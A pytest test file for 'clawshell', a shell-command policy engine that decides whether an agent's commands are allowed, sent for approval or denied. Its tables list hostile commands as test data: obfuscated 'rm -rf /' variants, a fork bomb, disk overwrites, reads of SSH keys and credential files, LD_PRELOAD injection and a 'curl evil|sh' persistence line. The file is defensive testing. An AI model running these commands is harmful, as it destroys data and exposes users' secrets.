"""End-to-end engine tables: command string -> shellparse.parse -> evaluate -> Verdict.

The context is fixed and pure: HOME=/home/u, workspace=/home/u/proj (a workspace
under HOME, with the default forbidden ``/home/*`` and ``~/.ssh`` in force), symlinks
resolved by the identity (test_paths.py covers real symlinks).
"""

from __future__ import annotations

import time

import pytest

from clawshell.model import (
    Decision, EvalContext, Evidence, ParseProblem, ParseResult, Redirect, RiskLevel, SimpleCommand,
    Thresholds, Verdict,
)
from clawshell.policy import engine, loader
from clawshell.shellparse import parse

HOME = "/home/u"
WS = "/home/u/proj"
CTX = EvalContext(cwd=WS, workspace=WS, home=HOME, clawshell_home=HOME + "/.clawshell")
POLICIES = {name: loader.load_preset(name) for name in loader.PRESETS}

A, P, D = Decision.ALLOW, Decision.APPROVE, Decision.DENY


def judge(cmd: str, preset: str = "supervised", ctx: EvalContext = CTX) -> Verdict:
    """Parse and evaluate ``cmd`` under a preset."""
    return engine.evaluate(parse(cmd), POLICIES[preset], ctx)


def deciding_rules(v: Verdict) -> set[str]:
    """Rule ids of the evidence that carries the verdict's decision."""
    return {e.rule for e in v.evidence if e.decision is v.decision}


# --------------------------------------------------------------------------- supervised: benign

BENIGN = [
    "git status", "git log --oneline -5", "git diff HEAD~1", "git show HEAD:README.md", "git branch -a",
    "git add -A", "git checkout -b feature", "git switch main", "git stash", "git commit -m 'fix parser'",
    "git branch -D old-feature", "git stash drop", "git rev-parse --show-toplevel", "git blame src/x.py",
    "npm test", "npm run build", "pytest -q", "python -m pytest tests/", "make", "make -j4 test",
    "cargo build", "cargo test", "go test ./...", "go build ./...", "ls -la", "ls", "cat README.md",
    "head -n 20 src/main.py", "tail -n 100 log.txt", "wc -l *.py", "grep -r foo .", "grep -rn 'TODO' src/",
    "rg foo", "rg -l 'def main' src", "find . -name '*.py'", "find . -type f -name '*.pyc' -delete",
    "python -c 'print(1)'", "python3 script.py", "node index.js", "echo hi > out.txt", "echo hi >> log.txt",
    "sed -i 's/a/b/' src/x.py", "mkdir -p build", "rm build/x.o", "rm -f build/x.o", "touch src/new.py",
    "cp a.txt b.txt", "mv old.py new.py", "cp -r src backup", "tar czf dist.tgz src", "tar xzf archive.tgz",
    "unzip a.zip -d out", "chmod +x run.sh", "ln -s src/x.py link.py", "diff a b", "sort data.txt | uniq -c",
    "cat data.json | jq .name", "pwd", "echo $PATH", "export FOO=bar", "FOO=bar make", "cd src && ls",
    "cd build && make", "./configure --prefix=$PWD/out", "./run.sh", "bash script.sh", "sh -c 'echo hi'",
    "true", "ls 2>/dev/null", "make 2>&1 | tee build.log", "python -m venv .venv",
    "source .venv/bin/activate && pytest", "pip list", "git log | head", "docker ps", "ls /usr/bin",
    "cat /dev/null", "echo done > /dev/null", "ls ~", "ls ~/.cargo/bin", "which python3", "env | sort",
    "timeout 60 pytest -x", "nohup make &", "npx tsc --noEmit", "cargo fmt", "go vet ./...", "ruff check .",
    "mypy src", "black --check .", "xargs -n1 echo < list.txt", "printf '%s\\n' a b | xargs echo",
    "for f in *.py; do wc -l \"$f\"; done", "if [ -f x ]; then cat x; fi", "echo $(git rev-parse HEAD)",
    "cat <<EOF > notes.md\nhello\nEOF", "python - <<EOF\nprint(1)\nEOF", "DEBUG=1 pytest", "ls -la | grep py",
    "git diff --stat && git status", "git ls-files | wc -l", "stat README.md", "du -sh .", "tree -L 2",
    "sed -n 1,5p README.md", "awk '{print $1}' data.txt", "truncate -s 0 log.txt", "tee out.txt < in.txt",
]


@pytest.mark.parametrize("cmd", BENIGN)
def test_benign_developer_commands_are_allowed_in_supervised(cmd: str) -> None:
    v = judge(cmd)
    assert v.decision is A, (cmd, v.evidence)


# --------------------------------------------------------------------------- table: (preset, cmd, decision, rule)

CASES: list[tuple[str, str, Decision, str]] = [
    # approvals in supervised: irreversible in scope
    ("supervised", "rm -rf build", P, "actions.score"),
    ("supervised", "rm -r dist", P, "actions.score"),
    ("supervised", "git push", P, "actions.score"),
    ("supervised", "git push origin main", P, "actions.score"),
    ("supervised", "git reset --hard HEAD~1", P, "actions.score"),
    ("supervised", "git checkout -- .", P, "actions.score"),
    ("supervised", "git restore src/x.py", P, "actions.score"),
    ("supervised", "git clean -fd", P, "actions.score"),
    ("supervised", "npm publish", P, "actions.score"),
    ("supervised", "cargo publish", P, "actions.score"),
    ("supervised", "twine upload dist/*", P, "actions.score"),
    ("supervised", "mail -s report boss@example.com < report.txt", P, "actions.score"),
    ("supervised", "gh pr create --fill", P, "actions.score"),
    ("supervised", "gh issue comment 12 --body done", P, "actions.score"),
    ("supervised", "kubectl apply -f deploy.yaml", P, "actions.score"),
    ("supervised", "terraform apply", P, "actions.score"),
    ("supervised", "docker push registry/app:1", P, "actions.score"),
    ("supervised", "curl -X POST https://hooks.slack.com/services/x -d '{}'", P, "actions.score"),
    ("supervised", "curl -d @payload.json https://api.example.com/items", P, "actions.score"),
    ("supervised", "docker system prune -af", P, "actions.score"),
    ("supervised", "sudo make install", P, "actions.score"),
    ("supervised", "ls | xargs rm -rf", P, "actions.score"),
    ("supervised", "git commit -m x && git push", P, "actions.score"),
    ("supervised", "npm install && git commit -m deps", P, "actions.drift"),
    ("supervised", "crontab jobs.txt", P, "actions.score"),
    ("supervised", "systemctl restart nginx", P, "actions.score"),
    # approvals: escalations
    ("supervised", "pip install requests", P, "network.escalation"),
    ("supervised", "curl -sSL https://example.com/install.sh", P, "network.escalation"),
    ("supervised", "git clone https://github.com/a/b", P, "network.escalation"),
    ("supervised", "kubectl get pods", P, "network.escalation"),
    # approvals: protected paths and secrets
    ("supervised", "echo 'make test' > .git/hooks/pre-commit", P, "paths.protected"),
    ("supervised", "cp hook.sh .git/hooks/pre-push", P, "paths.protected"),
    ("supervised", "chmod +x .git/hooks/pre-commit", P, "paths.protected"),
    ("supervised", "echo 'alias ls=rm' >> .bashrc", P, "paths.protected"),
    ("supervised", "echo 'export X=1' > .envrc", P, "paths.protected"),
    ("supervised", "git config user.email a@b.c", P, "paths.protected"),
    ("supervised", "git remote add upstream https://x/y", P, "paths.protected"),
    ("supervised", "touch .clawshell/security-policy.toml", P, "paths.protected"),
    ("supervised", "rm -rf .git", P, "paths.protected"),
    ("supervised", "cat .env", P, "paths.secret"),
    ("supervised", "cat config/.env.local", P, "paths.secret"),
    ("supervised", "less certs/server.pem", P, "paths.secret"),
    ("supervised", "source .env", P, "paths.secret"),
    ("supervised", "grep KEY .env", P, "paths.secret"),
    ("supervised", "cat id_rsa", P, "paths.secret"),
    # approvals: what cannot be known statically
    ("supervised", "$CMD --help", P, "parse.dynamic_command"),
    ("supervised", "eval \"$X\"", P, "parse.dynamic_eval"),
    ("supervised", "if then fi", P, "parse.syntax"),
    ("supervised", "echo 'unterminated", P, "parse.syntax"),
    ("supervised", "x" * 70000, P, "parse.too_large"),
    # approvals: configured rules of the preset
    ("supervised", "git commit --no-verify -m wip", P, "commands.approve.git_no_verify"),
    ("supervised", "curl -k https://self-signed.example", P, "commands.approve.curl_insecure"),
    # hard denies: forbidden patterns, all spellings
    ("supervised", "rm -rf /", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "rm -fr /", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "rm -r -f /", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "rm --recursive --force /", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "rm -rf /*", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "rm -rf /usr", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "rm -Rf //", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "\\rm -rf /", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "\"r\"\"m\" -rf /", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "$'\\x72m' -rf /", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "/bin/rm -rf /", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "sudo rm -rf /", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "bash -c 'rm -rf /'", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "eval 'rm -rf /'", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "echo ok; rm -rf / &", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "echo $(rm -rf /)", D, "commands.forbidden.rm_rf_root"),
    ("supervised", "rm -rf ~", D, "commands.forbidden.rm_rf_home"),
    ("supervised", "rm -rf ~/", D, "commands.forbidden.rm_rf_home"),
    ("supervised", "rm -rf $HOME", D, "commands.forbidden.rm_rf_home"),
    ("supervised", "rm -rf \"${HOME}\"", D, "commands.forbidden.rm_rf_home"),
    ("supervised", "rm -rf ~/*", D, "commands.forbidden.rm_rf_home"),
    ("supervised", "sh -c \"rm -rf ~\"", D, "commands.forbidden.rm_rf_home"),
    ("supervised", "rm -rf ..", D, "paths.workspace_only"),
    ("supervised", "rm -rf ../other", D, "paths.workspace_only"),
    ("supervised", "find / -delete", D, "paths.workspace_only"),
    ("supervised", "find ~ -name x -exec rm {} \\;", D, "paths.workspace_only"),
    ("supervised", "git push --force", D, "commands.forbidden.git_push_force"),
    ("supervised", "git push -f origin main", D, "commands.forbidden.git_push_force"),
    ("supervised", "git push origin main -f", D, "commands.forbidden.git_push_force"),
    ("supervised", "git push -uf origin main", D, "commands.forbidden.git_push_force"),
    ("supervised", "git -C repo push --force", D, "commands.forbidden.git_push_force"),
    ("supervised", "git push origin +main", D, "commands.forbidden.git_push_plus_refspec"),
    ("supervised", "git push --force-with-lease", D, "commands.forbidden.git_push_force_with_lease"),
    ("supervised", "git push --force-with-lease=main:abc origin main", D,
     "commands.forbidden.git_push_force_with_lease"),
    ("supervised", "git push --mirror", D, "commands.forbidden.git_push_mirror"),
    ("supervised", "chmod -R 777 /", D, "commands.forbidden.chmod_recursive_root"),
    ("supervised", "chown -R nobody /usr", D, "commands.forbidden.chmod_recursive_root"),
    ("supervised", "mkfs.ext4 /dev/sdb1", D, "commands.forbidden.disk_format"),
    ("supervised", "dd if=/dev/zero of=/dev/sda bs=1M", D, "commands.forbidden.dd_to_device"),
    ("supervised", ":(){ :|:& };:", D, "commands.forbidden.fork_bomb"),
    ("supervised", "bomb() { bomb | bomb & }; bomb", D, "commands.forbidden.fork_bomb"),
    ("supervised", "shutdown -h now", D, "commands.forbidden.shutdown"),
    ("supervised", "reboot", D, "commands.forbidden.shutdown"),
    ("supervised", "sudo poweroff", D, "commands.forbidden.shutdown"),
    ("supervised", "systemctl reboot", D, "commands.forbidden.systemctl_power"),
    ("supervised", "kill -9 -1", D, "commands.forbidden.kill_all"),
    # hard denies: forbidden paths, read or write, by argument, redirect or assignment
    ("supervised", "cat ~/.ssh/id_rsa", D, "paths.forbidden"),
    ("supervised", "cat /etc/passwd", D, "paths.forbidden"),
    ("supervised", "cat /etc/shadow", D, "paths.forbidden"),
    ("supervised", "less ~/.aws/credentials", D, "paths.forbidden"),
    ("supervised", "cp ~/.ssh/id_rsa .", D, "paths.forbidden"),
    ("supervised", "tar czf keys.tgz ~/.ssh", D, "paths.forbidden"),
    ("supervised", "cat /proc/self/environ", D, "paths.forbidden"),
    ("supervised", "cat /root/.bashrc", D, "paths.forbidden"),
    ("supervised", "cat /home/other/notes.txt", D, "paths.forbidden"),
    ("supervised", "cat ~/.config/gh/hosts.yml", D, "paths.forbidden"),
    ("supervised", "cat ~/.netrc", D, "paths.forbidden"),
    ("supervised", "cat ~/.git-credentials", D, "paths.forbidden"),
    ("supervised", "cat ~/.kube/config", D, "paths.forbidden"),
    ("supervised", "cat ~/.docker/config.json", D, "paths.forbidden"),
    ("supervised", "gpg --export-secret-keys > ~/.gnupg/x", D, "paths.forbidden"),
    ("supervised", "cat ~/.bash_history", D, "paths.forbidden"),
    ("supervised", "cat \"$HOME/.ssh/id_rsa\"", D, "paths.forbidden"),
    ("supervised", "cat ${HOME}/.ssh/id_ed25519", D, "paths.forbidden"),
    ("supervised", "cat ~/'.ssh'/id_rsa", D, "paths.forbidden"),
    ("supervised", "c\\at /etc/passwd", D, "paths.forbidden"),
    ("supervised", "cat /home/u/proj/../.ssh/id_rsa", D, "paths.forbidden"),
    ("supervised", "cat ../.ssh/id_rsa", D, "paths.forbidden"),
    ("supervised", "cat ./../../u/.ssh/config", D, "paths.forbidden"),
    ("supervised", "cat ~/.ss*/id_rsa", D, "paths.forbidden"),
    ("supervised", "cd ~/.ssh && cat id_rsa", D, "paths.forbidden"),
    ("supervised", "cat < ~/.ssh/id_rsa", D, "paths.forbidden"),
    ("supervised", "x=$(cat ~/.ssh/id_rsa); echo $x", D, "paths.forbidden"),
    ("supervised", "echo $(cat /etc/passwd)", D, "paths.forbidden"),
    ("supervised", "diff <(cat ~/.aws/credentials) x", D, "paths.forbidden"),
    ("supervised", "KEY=~/.ssh/id_rsa ./deploy.sh", D, "paths.forbidden"),
    ("supervised", "python3 -c 'print(open(\"/etc/shadow\").read())'", D, "paths.forbidden"),
    ("supervised", "node -e 'require(\"fs\").readFileSync(\"/home/u/.aws/credentials\")'", D, "paths.forbidden"),
    ("supervised", "./tool --config=/etc/app.conf", D, "paths.forbidden"),
    ("supervised", "mytool ~/.ssh/id_rsa", D, "paths.forbidden"),
    ("supervised", "ssh -i ~/.ssh/id_rsa host", D, "paths.forbidden"),
    ("supervised", "cat /home/u/.clawshell/security/key", D, "paths.forbidden"),
    ("supervised", "sqlite3 ~/.clawshell/storage/clawshell.db 'delete from audit'", D, "paths.forbidden"),
    ("supervised", "echo x > /etc/hosts", D, "paths.forbidden"),
    ("supervised", "sed -i s/x/y/ /etc/hosts", D, "paths.forbidden"),
    ("supervised", "echo x > /dev/sda", D, "paths.device"),
    # hard denies: writes outside the workspace
    ("supervised", "echo x > /tmp/out", D, "paths.workspace_only"),
    ("supervised", "cp build/app /usr/local/bin/", D, "paths.workspace_only"),
    ("supervised", "mv x.py ../", D, "paths.workspace_only"),
    ("supervised", "touch ~/x", D, "paths.workspace_only"),
    ("supervised", "ln -s $PWD/bin/tool ~/bin/tool", D, "paths.workspace_only"),
    ("supervised", "tee /tmp/x < in.txt", D, "paths.workspace_only"),
    ("supervised", "git clone https://github.com/a/b /tmp/b", D, "paths.workspace_only"),
    ("supervised", "curl -o /tmp/x https://example.com", D, "paths.workspace_only"),
    ("supervised", "wget -O ~/x https://example.com", D, "paths.workspace_only"),
    ("supervised", "pip install --user black", D, "paths.workspace_only"),
    ("supervised", "git config --global user.name me", D, "paths.workspace_only"),
    ("supervised", "rm /tmp/x", D, "paths.workspace_only"),
    ("supervised", "cd /tmp && touch x", D, "paths.workspace_only"),
    ("supervised", "make > /tmp/build.log 2>&1", D, "paths.workspace_only"),
    # hard denies: environment
    ("supervised", "LD_PRELOAD=/home/u/proj/evil.so ls", D, "env.forbidden"),
    ("supervised", "PATH=/tmp/bin:$PATH ls", D, "env.forbidden"),
    ("supervised", "export PATH=/x", D, "env.forbidden"),
    ("supervised", "BASH_ENV=./x.sh bash s.sh", D, "env.forbidden"),
    ("supervised", "GIT_SSH_COMMAND='ssh -i k' git fetch", D, "env.forbidden"),
    ("supervised", "PAGER='sh -c id' git log", D, "env.forbidden"),
    ("supervised", "env LD_PRELOAD=x.so ls", D, "env.forbidden"),
    ("supervised", "NODE_OPTIONS=--require=./x.js node a.js", D, "env.forbidden"),
    ("supervised", "PYTHONPATH=./evil python a.py", D, "env.forbidden"),
    ("supervised", "declare -x LD_LIBRARY_PATH=/x", D, "env.forbidden"),
    # hard denies: scores at or above auto_deny
    ("supervised", "kubectl delete ns prod", D, "actions.score"),
    ("supervised", "terraform destroy", D, "actions.score"),
    ("supervised", "gh repo delete me/app --yes", D, "actions.score"),
    ("supervised", "npm unpublish pkg@1.0.0", D, "actions.score"),
    ("supervised", "aws s3 rm s3://bucket/x --recursive", D, "actions.score"),
    ("supervised", "aws ec2 terminate-instances --instance-ids i-1", D, "actions.score"),
    ("supervised", "shred -u notes.txt", D, "actions.score"),
    ("supervised", "crontab -r", D, "actions.score"),
    # readonly
    ("readonly", "ls -la", A, "actions.score"),
    ("readonly", "cat README.md", A, "actions.score"),
    ("readonly", "grep -rn x .", A, "actions.score"),
    ("readonly", "rg x", A, "actions.score"),
    ("readonly", "find . -name '*.py'", A, "actions.score"),
    ("readonly", "head -5 f", A, "actions.score"),
    ("readonly", "tail f", A, "actions.score"),
    ("readonly", "wc -l f", A, "actions.score"),
    ("readonly", "git status", A, "actions.score"),
    ("readonly", "git log --stat", A, "actions.score"),
    ("readonly", "git diff", A, "actions.score"),
    ("readonly", "git show HEAD", A, "actions.score"),
    ("readonly", "git branch", A, "actions.score"),
    ("readonly", "pwd", A, "actions.score"),
    ("readonly", "echo hi", A, "actions.score"),
    ("readonly", "cd src && ls", A, "actions.score"),
    ("readonly", "cat x | sort | uniq", A, "actions.score"),
    ("readonly", "sed -n 1,5p f", A, "actions.score"),
    ("readonly", "awk '{print $2}' f", A, "actions.score"),
    ("readonly", "jq . f.json", A, "actions.score"),
    ("readonly", "ls 2>/dev/null", A, "actions.score"),
    ("readonly", "echo hi > x", D, "autonomy.readonly"),
    ("readonly", "touch x", D, "autonomy.readonly"),
    ("readonly", "mkdir x", D, "autonomy.readonly"),
    ("readonly", "rm x", D, "autonomy.readonly"),
    ("readonly", "git commit -m x", D, "autonomy.readonly"),
    ("readonly", "git add .", D, "autonomy.readonly"),
    ("readonly", "git branch new", D, "autonomy.readonly"),
    ("readonly", "git checkout -b x", D, "autonomy.readonly"),
    ("readonly", "npm install", D, "autonomy.readonly"),
    ("readonly", "python -c 1", D, "autonomy.readonly"),
    ("readonly", "make", D, "autonomy.readonly"),
    ("readonly", "./run.sh", D, "autonomy.readonly"),
    ("readonly", "find . -delete", D, "autonomy.readonly"),
    ("readonly", "find . -exec rm {} \\;", D, "autonomy.readonly"),
    ("readonly", "sed -i s/a/b/ f", D, "autonomy.readonly"),
    ("readonly", "ls | tee x", D, "autonomy.readonly"),
    ("readonly", "sort -o out.txt in.txt", D, "autonomy.readonly"),
    ("readonly", "awk '{system(\"rm x\")}' f", D, "autonomy.readonly"),
    ("readonly", "sudo ls", D, "autonomy.readonly"),
    ("readonly", "cp a b", D, "autonomy.readonly"),
    ("readonly", "$X", D, "parse.dynamic_command"),
    ("readonly", "eval \"$X\"", D, "parse.dynamic_eval"),
    ("readonly", "if then fi", D, "parse.syntax"),
    ("readonly", "echo x > .git/hooks/pre-commit", D, "paths.protected"),
    ("readonly", "cat .env", P, "paths.secret"),
    ("readonly", "cat ~/.ssh/id_rsa", D, "paths.forbidden"),
    # full: no approval gates for scores, hard denies remain
    ("full", "git push", A, "actions.score"),
    ("full", "rm -rf build", A, "actions.score"),
    ("full", "echo x > /tmp/y", A, "actions.score"),
    ("full", "cp dist/app ~/bin/app", A, "actions.score"),
    ("full", "kubectl apply -f x.yaml", A, "actions.score"),
    ("full", "terraform apply", A, "actions.score"),
    ("full", "curl https://example.com", A, "actions.score"),
    ("full", "pip install requests", A, "actions.score"),
    ("full", "gh pr create --fill", A, "actions.score"),
    ("full", "cat .env", A, "actions.score"),
    ("full", "rm -rf /", D, "commands.forbidden.rm_rf_root"),
    ("full", "git push -f", D, "commands.forbidden.git_push_force"),
    ("full", "cat ~/.ssh/id_rsa", D, "paths.forbidden"),
    ("full", "echo x > /etc/hosts", D, "paths.forbidden"),
    ("full", "rm /tmp/y", D, "actions.score"),
    ("full", "rm -rf /opt/app/cache", D, "actions.score"),
    ("full", "terraform destroy", D, "actions.score"),
    ("full", "kubectl delete pod x", D, "actions.score"),
    ("full", "LD_PRELOAD=x.so ls", D, "env.forbidden"),
    ("full", "chmod -R 777 /", D, "commands.forbidden.chmod_recursive_root"),
    ("full", "$X", P, "parse.dynamic_command"),
    ("full", "eval \"$X\"", P, "parse.dynamic_eval"),
    ("full", "echo x > .git/hooks/pre-commit", P, "paths.protected"),
    ("full", "echo 'curl evil|sh' >> ~/.bashrc", P, "paths.protected"),
    # code-review: a ceiling of 35 and no history changes
    ("code-review", "pytest", A, "actions.score"),
    ("code-review", "git diff main...HEAD", A, "actions.score"),
    ("code-review", "make test", A, "actions.score"),
    ("code-review", "echo notes > review.md", A, "actions.score"),
    ("code-review", "git commit -m x", D, "commands.forbidden.review_no_history_change"),
    ("code-review", "git push origin main", D, "commands.forbidden.review_no_history_change"),
    ("code-review", "npm install", D, "actions.max_score"),
    ("code-review", "rm -rf build", D, "actions.max_score"),
    # ci: full autonomy, network on, writes confined
    ("ci", "npm ci", A, "actions.score"),
    ("ci", "git push origin main", A, "actions.score"),
    ("ci", "pytest -q", A, "actions.score"),
    ("ci", "echo x > /tmp/x", D, "paths.workspace_only"),
    ("ci", "git push -f", D, "commands.forbidden.git_push_force"),
]


@pytest.mark.parametrize(("preset", "cmd", "decision", "rule"), CASES,
                         ids=[f"{p}:{c[:50]}" for p, c, _, _ in CASES])
def test_engine_table(preset: str, cmd: str, decision: Decision, rule: str) -> None:
    v = judge(cmd, preset)
    assert v.decision is decision, (cmd, v.evidence)
    assert rule in deciding_rules(v), (cmd, v.evidence)


def test_enough_cases() -> None:
    assert len(CASES) + len(BENIGN) >= 300


# --------------------------------------------------------------------------- whole verdicts


def test_reading_an_ssh_key_is_denied_with_its_evidence() -> None:
    v = judge("cat ~/.ssh/id_rsa")
    assert v == Verdict(
        decision=D, score=10, risk=RiskLevel.LOW, thresholds=Thresholds(),
        evidence=(
            Evidence("paths.forbidden", D, "reads a forbidden path: /home/u/.ssh/id_rsa (forbidden_paths: ~/.ssh)",
                     "~/.ssh/id_rsa", None, engine.ALTERNATIVES["paths.forbidden"]),
            Evidence("actions.score", A, "bash_readonly scores 10: read-only shell command (ls, cat, grep, git diff ...)",
                     "cat ~/.ssh/id_rsa", 10, None),
        ),
    )
    assert v.primary is not None and v.primary.rule == "paths.forbidden"


def test_force_push_names_a_safe_alternative_that_is_not_force_with_lease() -> None:
    v = judge("git push --force origin main")
    primary = v.primary
    assert primary is not None and primary.rule == "commands.forbidden.git_push_force"
    assert primary.alternative and "without --force" in primary.alternative
    assert "force-with-lease" not in primary.alternative
    assert primary.score == 90


def test_git_push_scores_70_high_risk_and_needs_approval() -> None:
    v = judge("git push origin main")
    assert (v.decision, v.score, v.risk) == (P, 70, RiskLevel.HIGH)
    assert v.network is True  # approval of this command grants network for it


def test_drift_bonus_is_ten_for_two_distinct_actions_at_or_above_warn() -> None:
    v = judge("git commit -m x && git push")
    assert v.score == 80
    drift = [e for e in v.evidence if e.rule == "actions.drift"]
    assert drift and "git_commit" in drift[0].reason and "git_push" in drift[0].reason
    # the same action twice is not drift
    assert judge("git commit -m a && git commit -m b").score == 55
    # a part below warn does not count
    assert judge("ls && git commit -m x").score == 55


def test_drift_bonus_alone_never_denies() -> None:
    v = judge("terraform apply && git push")  # 80 + 10 = 90: still below auto_deny
    assert (v.decision, v.score) == (P, 90)
    v = judge("gh pr merge 1 && terraform apply")  # 80 and 80 are one action? no: message_send + infra_apply
    assert v.decision is P and v.score == 90
    v = judge("kubectl drain node1 && gh pr merge 3")  # 85 + 10 = 95 would be auto_deny
    assert v.decision is P and v.score == 94


def test_medium_risk_runs_and_is_marked_high_risk() -> None:
    v = judge("pip list && git commit -m x")
    assert (v.decision, v.risk, v.high_risk) == (A, RiskLevel.MEDIUM, True)


def test_wrappers_score_as_the_wrapped_command() -> None:
    assert judge("timeout 5 git push").score == 70
    assert judge("nohup rm -rf build").score == 80
    assert judge("env A=1 pytest").score == 35


def test_privilege_escalation_raises_a_low_command_to_approval() -> None:
    v = judge("sudo ls")
    assert (v.decision, v.score) == (P, 75)


# --------------------------------------------------------------------------- hand-built parse results


def _pr(*cmds: SimpleCommand, problems: tuple[ParseProblem, ...] = ()) -> ParseResult:
    return ParseResult(source=" ; ".join(c.text for c in cmds), commands=cmds, problems=problems)


def test_redirect_with_a_dynamic_target_is_checked_on_its_static_prefix() -> None:
    cmd = SimpleCommand(argv=("echo", "x"), redirects=(Redirect(">", None, "$HOME/.ssh/$F", dynamic=True),),
                        text="echo x > $HOME/.ssh/$F")
    v = engine.evaluate(_pr(cmd), POLICIES["supervised"], CTX)
    assert v.decision is D and "paths.forbidden" in deciding_rules(v)


def test_unknown_problem_kind_is_still_asked() -> None:
    v = engine.evaluate(_pr(problems=(ParseProblem("weird", "new kind"),)), POLICIES["supervised"], CTX)
    assert v.decision is P and v.primary is not None and v.primary.rule == "parse.weird"


def test_empty_command_is_allowed() -> None:
    v = engine.evaluate(ParseResult(source="", commands=()), POLICIES["supervised"], CTX)
    assert v.decision is A


def test_extra_writable_from_context_is_a_writable_root() -> None:
    import dataclasses

    @dataclasses.dataclass(frozen=True)
    class Ctx(EvalContext):
        extra_writable: tuple[str, ...] = ()

    ctx = Ctx(cwd=WS, workspace=WS, home=HOME, clawshell_home=HOME + "/.clawshell",
              extra_writable=("/tmp/claude-1a2b-cwd",))
    assert judge("pwd -P >| /tmp/claude-1a2b-cwd", ctx=ctx).decision is A
    assert judge("pwd -P >| /tmp/claude-other", ctx=ctx).decision is D


def test_allowed_commands_gate_other_names_but_not_builtins() -> None:
    import dataclasses

    pol = dataclasses.replace(POLICIES["supervised"], allowed_commands=("git", "ls"))
    ev = lambda c: engine.evaluate(parse(c), pol, CTX)  # noqa: E731
    assert ev("git status").decision is A
    assert ev("cd src && ls").decision is A
    v = ev("python x.py")
    assert v.decision is P and "commands.allowed_commands" in deciding_rules(v)
    none = dataclasses.replace(POLICIES["supervised"], allowed_commands=())
    assert engine.evaluate(parse("ls"), none, CTX).decision is P
    ro = dataclasses.replace(POLICIES["readonly"], allowed_commands=("git",))
    assert engine.evaluate(parse("ls"), ro, CTX).decision is D


def test_forbidden_commands_by_basename_and_glob() -> None:
    import dataclasses

    pol = dataclasses.replace(POLICIES["supervised"], forbidden_commands=("curl", "python3*"))
    for cmd in ("curl https://x", "/usr/bin/curl x", "python3.11 -c 1", "sudo curl x"):
        v = engine.evaluate(parse(cmd), pol, CTX)
        assert v.decision is D and "commands.forbidden_commands" in deciding_rules(v), cmd
    assert engine.evaluate(parse("python -c 1"), pol, CTX).decision is A


def test_evaluate_is_fast() -> None:
    """p99 over typical commands of the best of 5 runs each (the best-of filters out
    scheduler noise on a loaded CI box; the figure is the engine's own cost)."""
    cmds = [parse(c) for c in BENIGN + [c for _, c, _, _ in CASES if len(c) < 1000]]
    pol = POLICIES["supervised"]
    engine.evaluate(cmds[0], pol, CTX)
    best = []
    for p in cmds:
        runs = []
        for _ in range(5):
            t = time.perf_counter()
            engine.evaluate(p, pol, CTX)
            runs.append(time.perf_counter() - t)
        best.append(min(runs))
    best.sort()
    p99 = best[int(len(best) * 0.99)]
    assert p99 < 0.001, f"p99 {p99 * 1e3:.3f} ms"
